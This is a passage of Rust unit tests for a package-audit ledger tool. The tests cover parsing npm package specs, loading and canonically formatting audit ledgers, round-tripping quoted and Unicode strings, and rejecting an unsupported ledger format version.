    let p = PackageId::parse_spec("npm:@anthropic-ai/claude-code@2.1.1").expect("spec");
    assert_eq!(
        (p.ecosystem.as_str(), p.name.as_str(), p.version.as_str()),
        ("npm", NAME, "2.1.1")
    );
    let p = PackageId::parse_spec("left-pad@1.3.0").expect("spec");
    assert_eq!((p.ecosystem.as_str(), p.name.as_str()), ("npm", "left-pad"));
    for bad in ["@anthropic-ai/claude-code", "npm:", "x@", "a b@1"] {
        assert!(PackageId::parse_spec(bad).is_err(), "{bad}");
    }
    let _ = manifest("x", "1", "s");
}

#[test]
fn the_example_ledger_loads_and_is_canonical() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/ledger");
    let l = Ledger::load(&dir).expect("example ledger loads");
    assert!(l.criterion("reviewed-by-two").is_some());
    assert_eq!(ledger::fmt(&dir, false).expect("fmt"), FmtStatus::Canonical);
}

#[test]
fn fmt_round_trips_awkward_strings() {
    let notes =
        "line one\nline \"two\" with 'quotes' and ''' and \"\"\" and a \\ backslash, ünïcödé\ttab";
    let dir = tempfile::tempdir().expect("tempdir");
    let at = clock("2026-11-20T10:00:00Z");
    let m = claude("1.0.0", "a").build();
    let mut r = request(&m, "1.0.0", None);
    r.notes = Some(notes.into());
    r.who = "O'Brien \"OB\" <ob@example.com>".into();
    ledger::certify(dir.path(), r, &at).expect("certify");
    let l = Ledger::load(dir.path()).expect("load");
    let a = l.audits().next().expect("one audit");
    assert_eq!(a.notes.as_deref(), Some(notes));
    assert_eq!(a.who, "O'Brien \"OB\" <ob@example.com>");
    assert_eq!(
        ledger::fmt(dir.path(), false).expect("fmt"),
        FmtStatus::Canonical
    );
}

#[test]
fn ledger_of_a_newer_format_is_refused_not_half_read() {
    let body = audit("1.0.0", "a", "");
    let e = errors(&format!("format = 2\n\n{body}"));
    assert!(
        e.to_string()
            .contains("the ledger has format = 2; this vetted reads format 1"),
        "{e}"
    );
    errors(&format!("format = \"1\"\n\n{body}"));
    // Format 1, declared or not, loads; fmt keeps the declaration.
    load_ok(&body);
    let dir = ledger_dir(&format!("format = 1\n\n{body}"));
    Ledger::load(dir.path()).expect("format 1");
    ledger::fmt(dir.path(), true).expect("fmt");
    let text = std::fs::read_to_string(dir.path().join("audits.toml")).expect("read");
    assert!(text.starts_with("format = 1\n\n[[audit]]"), "{text}");
}
